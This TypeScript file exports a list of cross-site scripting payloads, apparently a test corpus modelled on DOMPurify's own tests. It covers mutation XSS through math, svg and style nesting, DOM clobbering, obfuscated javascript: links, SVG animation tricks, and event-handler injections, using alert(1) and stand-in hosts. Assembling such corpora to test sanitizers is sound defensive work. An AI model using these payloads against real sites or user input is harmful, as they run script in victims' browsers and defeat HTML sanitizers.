import { lines } from './lines.ts';

/** Of the kinds that DOMPurify's own tests hold, its mutation XSS first; one payload a line. */
export const dompurify: readonly string[] = lines(`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">
<math><mi><table><mglyph><style><math>CLICKME</math><img src onerror=alert(1)></style></mglyph></table></mi></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml><svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg></annotation-xml></math>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='alert(1)'>">
<svg><desc><table><tr><desc><style><img title="</style><img src onerror=alert(1)>"></style></desc></tr></table></desc></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">
<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>
<xmp>&lt;img onerror="alert(1);//" src=x&gt;</xmp>
<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea><img src=x onerror=alert(1)>
<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title><img src=x onerror=alert(1)>
<p id="</title><img src=x onerror=alert(1)>"><title>
<select><noscript><p title="</noscript><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><img src=x onerror=alert(1)></template></select>
<select><iframe></select><img src=x: onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>
<template shadowrootmode="open"><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=open><script>alert(1)</script><slot></slot></template></div>
<table><colgroup><template><script>alert(1)</script></template></colgroup></table>
<table><tr><td><svg><style><a id="</style><img src=x onerror=alert(1)>">
<a id="<style/><img src=x onerror=alert(1)>"><svg><style>*</style>
<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>
<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><use xlink:href="data:application/xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==#test"/></svg>
<svg><use xlink:href="http://xss.invalid/x.svg#x"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>
<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a></svg>
<svg><animate xlink:href=#xss attributeName=href from=javascript:alert(1) to=1 /><a id=xss><text x=20 y=20>XSS</text></a></svg>
<svg><set xlink:href=#xss attributeName=href from=? to=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate onend=alert(1) attributeName=x dur=1s>
<svg><animate onrepeat=alert(1) attributeName=x dur=1s repeatCount=2 />
<svg><animatetransform onbegin=alert(1) attributeName=transform>
<svg><animatemotion onbegin=alert(1) dur=1s>
<svg><discard onbegin=alert(1)>
<svg><image href="http://xss.invalid/i.png" onload=alert(1)>
<svg><image xlink:href="javascript:alert(1)"/></svg>
<svg><feImage href="http://xss.invalid/i.png"/></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script>/<@/>alert(1)</script>
<svg contentScriptType=text/vbs><script>MsgBox"@insertScript"<i>
<svg><style>{font-family:'<iframe/onload=confirm(1)>'
<svg><style>@import "http://xss.invalid/x.css";</style></svg>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a><circle r=100 /><animate attributeName="xlink:href" values=";javascript:alert(1)" begin="0s" dur="0.1s" fill="freeze"/></a></svg>
<svg><foreignObject><math><mi><img src=x onerror=alert(1)></mi></math></foreignObject></svg>
<form onsubmit=alert(1)><input onfocus=alert(1) name=attributes>123</form>
<form onsubmit=alert(1)><input onfocus=alert(1) name=nodeName>123</form>
<form onsubmit=alert(1)><div onmouseover=alert(2) id=removeAttribute></div><input name=removeChild></form>
<form><input name="childNodes"><input name="nextSibling"><img src=x onerror=alert(1)></form>
<form id=x></form><input form=x name=ownerDocument><img src=x onerror=alert(1)>
<img name="getElementById"><img id="implementation"><img src=x onerror=alert(1)>
<a id=location href="javascript:alert(1)"></a>
<img name=currentScript src=x onerror=alert(1)>
<iframe name=x srcdoc="<a id=y href=javascript:alert(1)></a>"></iframe>
<input name=cookie><a name=createElement><a id=body></a>
<object><embed id=alert src="javascript:alert(1)"></object>
<a href="https://xss.invalid" target=_blank rel=opener>x</a>
<a href="javascript:alert(1)" target="_self">x</a>
<a href="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-">x</a>
<a href="  javascript:alert(1)">x</a>
<a href="&#x3000;javascript:alert(1)">x</a>
<a href="&#xA0;javascript:alert(1)">x</a>
<a href="&#8232;javascript:alert(1)">x</a>
<a href="&#x180e;javascript:alert(1)">x</a>
<a href="&#65279;javascript:alert(1)">x</a>
<a href="&#x1680;javascript:alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#0000058alert(1)">x</a>
<a href="ja&Tab;va&NewLine;script&colon;alert(1)">x</a>
<a href="JAVASCRIPT:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://xss.invalid/1">x</a>
<a href="filesystem:https://xss.invalid/temporary/x.html">x</a>
<a href="file:///etc/passwd">x</a>
<a href="intent://xss.invalid#Intent;scheme=http;end">x</a>
<a href="x-javascript:alert(1)">x</a>
<a href="mailto:x@xss.invalid?body=%3Cscript%3Ealert(1)%3C/script%3E">x</a>
<b style="background:url(http://xss.invalid/b)">x</b>
<b style="width:expression(alert(1))">x</b>
<b is="x-alert" onclick=alert(1)>x</b>
<x-alert onconnected=alert(1)></x-alert>
<event-timeline src="http://xss.invalid/x.json"></event-timeline>
<p><svg><img src=x onerror=alert(1)></svg></p>
<p><math><b><img src=x onerror=alert(1)></b></math></p>
<ul><li><svg><style><li title="</style><img src=x onerror=alert(1)>"></style></svg></li></ul>
<blockquote cite="javascript:alert(1)"><p onclick=alert(1)>x</blockquote>
<q cite="data:text/html,<script>alert(1)</script>">x</q>
<abbr title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</abbr>
<time datetime='"><img src=x onerror=alert(1)>'>x</time>
<span lang='"><script>alert(1)</script>' dir="javascript:alert(1)">x</span>
<code><!--</code><img src=x onerror=alert(1)>--></code>
<i><!--><img src=x onerror=alert(1)>--></i>
<i><!---><img src=x onerror=alert(1)>--></i>
<i><!-- --!><img src=x onerror=alert(1)> --></i>
<i><?xml ?><img src=x onerror=alert(1)>?></i>
<i></i/><img/src=x/onerror=alert(1)/></i>
<em><strong><b><i><q><cite><sub><sup><script>alert(1)</script></sup></sub></cite></q></i></b></strong></em>
<br onclick=alert(1) style=x:y/><br/onload=alert(1)>
`);
